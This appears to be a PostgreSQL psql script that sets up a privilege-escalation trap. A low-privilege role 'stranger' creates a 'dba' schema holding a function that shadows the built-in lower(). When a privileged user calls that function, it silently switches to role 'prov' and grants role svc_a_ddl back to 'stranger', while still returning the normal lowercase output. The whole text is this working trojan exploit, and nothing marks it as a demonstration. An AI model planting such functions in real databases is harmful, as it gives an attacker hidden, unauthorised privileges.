\connect postgres
CREATE SCHEMA dba AUTHORIZATION stranger;
\connect postgres stranger
GRANT USAGE ON SCHEMA dba TO dba;
CREATE FUNCTION dba.lower(varchar) RETURNS text LANGUAGE plpgsql AS $$
BEGIN
  SET ROLE prov;
  GRANT svc_a_ddl TO stranger;
  RESET ROLE;
  RETURN pg_catalog.lower($1);
END $$;
